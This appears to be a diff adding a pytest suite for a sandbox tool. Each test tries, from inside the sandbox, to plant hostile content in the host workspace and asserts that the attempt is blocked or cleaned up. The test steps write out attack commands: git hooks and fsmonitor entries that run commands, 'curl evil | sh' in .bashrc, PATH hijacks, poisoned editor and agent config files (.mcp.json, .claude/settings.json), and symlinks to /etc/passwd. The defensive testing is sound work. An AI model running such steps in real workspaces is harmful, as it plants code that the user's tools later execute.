@@ -1,0 +1,282 @@
+"""
+A host workspace (-w) must not hand the host something it will trust.
+
+Whatever a run leaves in its workspace waits for the user's git, shell,
+editor and agent. Each attack here is made from inside a real sandbox, as an
+agent's code would, as root and as nobody; each test then asserts the
+refusal and that the host shows no trace: the repository byte-identical, no
+placeholder left, no link leading out, no FIFO or socket, no o+w bit.
+Positive controls check that ordinary work in the workspace still works.
+"""
+
+import hashlib
+import json
+import os
+import signal
+import socket
+import stat
+import subprocess
+
+import pytest
+
+from conftest import UnixListener, assert_cordon_refused, marker, wait_until
+
+
+def landlock_available():
+    try:
+        with open("/sys/kernel/security/lsm") as f:
+            return "landlock" in f.read()
+    except OSError:
+        return False
+
+
+def tree_digest(root):
+    """SHA-256 over every entry's path, type, mode and content (links: target)."""
+    h = hashlib.sha256()
+    for dirpath, dirnames, filenames in os.walk(root):
+        dirnames.sort()
+        for name in sorted(dirnames + filenames):
+            p = os.path.join(dirpath, name)
+            st = os.lstat(p)
+            h.update(f"{os.path.relpath(p, root)}\0{st.st_mode:o}\0".encode())
+            if stat.S_ISLNK(st.st_mode):
+                h.update(os.readlink(p).encode())
+            elif stat.S_ISREG(st.st_mode):
+                with open(p, "rb") as f:
+                    h.update(f.read())
+    return h.hexdigest()
+
+
+def host_run(cordon, argv, cwd):
+    r = subprocess.run(cordon.ident.wrap(argv), cwd=cwd, env=cordon.ident.env(),
+                       capture_output=True, text=True)
+    assert r.returncode == 0, r
+    return r.stdout
+
+
+def make_repo(cordon):
+    """A host git repository owned by the caller, with a hook-free, committed tree."""
+    ws = cordon.hostdir("repo")
+    git = ["git", "-c", "user.email=t@example.com", "-c", "user.name=t"]
+    host_run(cordon, ["git", "init", "-q", "."], ws)
+    host_run(cordon, ["sh", "-c", "echo hello > a.txt"], ws)
+    host_run(cordon, [*git, "add", "a.txt"], ws)
+    host_run(cordon, [*git, "commit", "-qm", "first"], ws)
+    return ws
+
+
+def entries(ws):
+    return sorted(os.listdir(ws))
+
+
+def attempts(cordon, ws, steps, *opts):
+    """Run each shell STEP in one sandbox; return {step: exit status} as the run saw it."""
+    script = "\n".join(f"( {s} ) >/dev/null 2>&1; echo \"$?\"" for s in steps)
+    r = cordon.run(["sh", "-c", script], "-w", ws, *opts)
+    assert r.status == 0, r
+    codes = [int(c) for c in r.out.split()]
+    assert len(codes) == len(steps), r
+    return dict(zip(steps, codes)), r
+
+
+def test_git_repository_cannot_be_changed_or_replaced(cordon):
+    ws = make_repo(cordon)
+    before = tree_digest(ws / ".git")
+    steps = [
+        "echo 'touch /tmp/pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+        "git config core.fsmonitor 'touch /tmp/pwned'",
+        "git config core.hooksPath /workspace/hooks",
+        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
+        "echo '*' > .git/info/exclude",
+        "mkdir -p .git/modules/x",
+        "mv .git x",
+        "mv .git x && git init -q . && git config core.fsmonitor evil",
+        "rm -rf .git && git init -q . && test -d .git/hooks",
+        "git -c user.email=a@b -c user.name=n commit -qam evil --allow-empty",
+    ]
+    codes, r = attempts(cordon, ws, steps)
+    for step, code in codes.items():
+        assert code != 0, f"{step!r} succeeded\n{r}"
+    assert tree_digest(ws / ".git") == before
+    assert entries(ws) == [".git", "a.txt"], entries(ws)
+    assert r.result["workspace"]["read_only"] >= 1, r.result
+
+
+def test_missing_protected_names_cannot_be_created(cordon):
+    ws = cordon.hostdir("ws")
+    steps = [
+        "echo 'curl evil | sh' > .bashrc",
+        "echo 'export PATH=/workspace/bin:$PATH' > .envrc",
+        "echo x > .profile",
+        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
+        "echo '{\"mcpServers\": {}}' > .mcp.json",
+        "mkdir -p .claude && echo '{}' > .claude/settings.json",
+        "git init -q .",
+        "rm -rf .git .bashrc",
+        "mv .vscode elsewhere",
+    ]
+    codes, r = attempts(cordon, ws, steps)
+    for step, code in codes.items():
+        assert code != 0, f"{step!r} succeeded\n{r}"
+    # The placeholders that refused them are gone with the run.
+    assert entries(ws) == [], entries(ws)
+    assert r.result["workspace"]["placeholders"] > 0, r.result
+
+
+def test_existing_protected_files_are_read_only(cordon):
+    ws = cordon.hostdir("ws")
+    for name, text in ((".envrc", "use nix\n"), (".env.local", "KEY=1\n")):
+        (ws / name).write_text(text)
+        os.chown(ws / name, cordon.ident.uid, cordon.ident.gid)
+    steps = ["echo evil >> .envrc", "rm .envrc", "echo evil > .env.local",
+             "mv .env.local x", "cat .envrc .env.local"]
+    codes, r = attempts(cordon, ws, steps)
+    assert [codes[s] != 0 for s in steps] == [True, True, True, True, False], r
+    assert (ws / ".envrc").read_text() == "use nix\n"
+    assert (ws / ".env.local").read_text() == "KEY=1\n"
+    assert entries(ws) == [".env.local", ".envrc"], entries(ws)
+
+
+def test_new_glob_names_are_reported_not_refused(cordon):
+    """
+    `.env*` can only be refused where it exists: Landlock cannot refuse a
+    name, and no placeholder stands for a pattern. The run may make
+    .env.local; the result names it.
+    """
+    ws = cordon.hostdir("ws")
+    r = cordon.run(["sh", "-c", "echo K=1 > .env.local"], "-w", ws)
+    assert r.status == 0, r
+    assert entries(ws) == [".env.local"]
+    w = r.result["workspace"]
+    assert w["created_protected"] == 1 and "created protected .env.local" in w["paths"], w
+
+
+def test_links_out_special_files_and_modes_are_undone(cordon):
+    ws = cordon.hostdir("ws")
+    audit = cordon.hostdir("audit") / "audit.log"
+    steps = [
+        "ln -s /etc/passwd out",
+        "ln -s ../../.. up",
+        "mkdir -p sub && ln -s ../../etc sub/climb",
+        "ln -s sub/../../x sneaky",
+        "mkfifo fifo",
+        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"s.sock\")'",
+        "echo data > shared && chmod o+w shared",
+        "mkdir open && chmod 1777 open",
+        "cp /bin/true suid && chmod 4755 suid",  # seccomp may refuse it already
+    ]
+    codes, r = attempts(cordon, ws, steps, "--audit", audit)
+    if landlock_available():
+        assert codes[steps[4]] != 0 and codes[steps[5]] != 0, r
+    for name in ("out", "up", "sub/climb", "sneaky", "fifo", "s.sock"):
+        assert not os.path.lexists(ws / name), name
+    for name in ("shared", "open", "suid"):
+        mode = os.lstat(ws / name).st_mode
+        assert not mode & (stat.S_IWOTH | stat.S_ISUID | stat.S_ISGID), (name, oct(mode))
+    assert (ws / "shared").read_text() == "data\n"
+    w = r.result["workspace"]
+    fixed = 2 + (codes[steps[8]] == 0)
+    assert (w["removed"], w["modes_fixed"], w["scan_incomplete"]) == (4, fixed, False), w
+    events = [json.loads(line) for line in audit.read_text().splitlines()]
+    end = [e for e in events if e.get("type") == "run.end"]
+    assert len(end) == 1 and "removed link out" in json.dumps(end[0]), end
+
+
+def test_ordinary_work_still_works(cordon):
+    ws = make_repo(cordon)
+    script = """set -e
+git status --porcelain
+echo more >> a.txt
+echo new > b.txt
+mkdir -p d/e && echo deep > d/e/f.txt
+ln -s a.txt rel
+mkdir -p node_modules/tool/bin node_modules/.bin
+echo 'echo hi' > node_modules/tool/bin/cli.js
+ln -s ../tool/bin/cli.js node_modules/.bin/tool
+cat node_modules/.bin/tool
+git diff --stat
+"""
+    r = cordon.run(["sh", "-c", script], "-w", ws)
+    assert r.status == 0, r
+    assert "a.txt" in r.out and "dubious" not in r.err, r
+    assert (ws / "a.txt").read_text() == "hello\nmore\n"
+    assert (ws / "d/e/f.txt").read_text() == "deep\n"
+    assert os.readlink(ws / "rel") == "a.txt"
+    assert os.readlink(ws / "node_modules/.bin/tool") == "../tool/bin/cli.js"
+    assert entries(ws) == [".git", "a.txt", "b.txt", "d", "node_modules", "rel"], entries(ws)
+    w = r.result["workspace"]
+    assert (w["removed"], w["modes_fixed"]) == (0, 0), w
+
+
+def test_existing_links_are_left_alone(cordon):
+    """A link the user made, leading out, is theirs; a protected link is hidden inside."""
+    ws = cordon.hostdir("ws")
+    os.symlink("/etc/hostname", ws / "mine")
+    os.symlink("config/envrc", ws / ".envrc")
+    for n in ("mine", ".envrc"):
+        os.lchown(ws / n, cordon.ident.uid, cordon.ident.gid)
+    codes, r = attempts(cordon, ws, ["rm .envrc", "ln -sf /etc/passwd .envrc", "test -L .envrc"])
+    assert all(c != 0 for c in codes.values()), r
+    assert os.readlink(ws / "mine") == "/etc/hostname"
+    assert os.readlink(ws / ".envrc") == "config/envrc"
+
+
+def test_host_socket_in_the_workspace_is_unreachable(cordon):
+    ws = cordon.hostdir("ws")
+    listener = UnixListener(path=str(ws / "agent.sock"))
+    try:
+        script = ("import socket, sys\ns = socket.socket(socket.AF_UNIX)\n"
+                  "try:\n    s.connect('/workspace/agent.sock')\nexcept OSError as e:\n"
+                  "    sys.exit(e.errno)\nsys.exit(0)\n")
+        r = cordon.run(["python3", "-c", script], "-w", ws)
+        assert r.status not in (0,) and r.result["signal"] is None, r
+        assert listener.count() == 0
+        assert stat.S_ISSOCK(os.lstat(ws / "agent.sock").st_mode)
+        assert r.result["workspace"]["masked"] == 1, r.result
+    finally:
+        listener.close()
+
+
+def test_unsafe_unprotect_lets_the_run_write_git(cordon):
+    ws = cordon.hostdir("ws")
+    pol = cordon.hostdir("pol") / "p.yaml"
+    pol.write_text("version: 1\nfilesystem:\n  unsafe_unprotect: [.git]\n")
+    r = cordon.run(["git", "init", "-q", "."], "-w", ws, "-p", pol)
+    assert r.status == 0, r
+    assert (ws / ".git" / "HEAD").is_file()
+    assert entries(ws) == [".git"], entries(ws)
+
+
+def test_policy_shows_and_checks_the_list(cordon):
+    d = cordon.hostdir("pol")
+    good = d / "good.yaml"
+    good.write_text("version: 1\nfilesystem:\n  protected: [.tool-versions, .direnv*]\n"
+                    "  unsafe_unprotect: [.idea]\n")
+    r = cordon.raw("policy", "check", good)
+    assert r.status == 0, r
+    fs = json.loads(r.out)["policy"]["filesystem"]
+    assert {".git", ".env*", ".tool-versions", ".direnv*"} <= set(fs["protected"])
+    assert ".idea" not in fs["protected"] and fs["unsafe_unprotect"] == [".idea"]
+    for text, words in (("unsafe_unprotect: [.gti]", ['".gti"', "not a default"]),
+                        ("protected: [a/b]", ['"a/b"', "single file name"]),
+                        ("protected: ['*.sh']", ["'*' may only end a name"])):
+        bad = d / "bad.yaml"
+        bad.write_text(f"version: 1\nfilesystem:\n  {text}\n")
+        assert_cordon_refused(cordon.raw("policy", "check", bad), *words)
+    r = cordon.raw("check")
+    assert r.status == 0 and ".mcp.json" in r.out and "unsafe_unprotect" in r.out, r
+
+
+def test_placeholders_do_not_survive_a_killed_cordon(cordon):
+    ws = cordon.hostdir("ws")
+    mark = marker()
+    p = cordon.popen(["sh", "-c", "sleep 30", mark], "-w", ws)
+    try:
+        assert wait_until(lambda: (ws / ".bashrc").exists(), 15), "no placeholder appeared"
+        os.kill(p.pid, signal.SIGKILL)
+        p.wait(timeout=10)
+        assert wait_until(lambda: entries(ws) == [], 10), entries(ws)
+    finally:
+        if p.poll() is None:
+            os.killpg(p.pid, signal.SIGKILL)
+            p.wait()
